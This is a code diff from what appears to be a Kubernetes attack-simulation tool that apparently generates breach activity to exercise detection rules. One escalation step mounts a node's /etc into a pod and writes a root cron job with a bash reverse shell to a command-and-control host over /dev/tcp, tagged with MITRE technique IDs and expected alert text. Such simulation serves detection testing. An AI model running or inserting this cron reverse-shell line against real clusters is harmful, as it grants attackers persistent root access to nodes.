@@ -445,9 +445,9 @@ class _Breach:
     # escalations ---------------------------------------------------------------
     def need_pod(self) -> Pod:
         """The attacker needs somewhere to run code: their foothold, or a pod they start."""
-        if self.foothold is not None and (self.foothold.deleted is None):
-            return self.foothold
-        return self.attacker_pod("debug-tools", namespace="default", image="docker.io/library/alpine:3.19")
+        if self.foothold is None or self.foothold.deleted is not None:
+            self.foothold = self.attacker_pod("debug-tools", namespace="default", image="docker.io/library/alpine:3.19")
+        return self.foothold
 
     def attacker_pod(self, name: str, *, namespace: str, image: str, node: str | None = None, sa: str = "default", step_name: str | None = None,
                      techniques: tuple[str, ...] = ("MS-TA9008", "T1610"), **kw: Any) -> Pod:
@@ -541,7 +541,7 @@ class _Breach:
     def escalate_hostpath_cron(self) -> None:
         pod = self.attacker_pod("log-collector", namespace="default", image="docker.io/library/busybox:1.36", node=self.escape_node(),
                                 host_paths=("/etc",), step_name="Pod with the node's /etc mounted", techniques=("MS-TA9013", "T1611", "T1610"))
-        self.escape(pod, "a cron entry written into the node's /etc", ("MS-TA9013", "T1611", "T1053.003", "T1098"), "/bin/sh",
+        self.escape(pod, "a cron entry written into the node's /etc", ("MS-TA9013", "T1611", "T1053.003", "T1098", "MS-TA9007", "T1059"), "/bin/sh",
                     f"-c \"echo '* * * * * root bash -i >& /dev/tcp/{self.c2}/443 0>&1' > /host/etc/cron.d/sync\"",
                     ("Write below etc", "Error", "File below /etc opened for writing (file=/host/etc/cron.d/sync)"))
         self.host_c2 = True
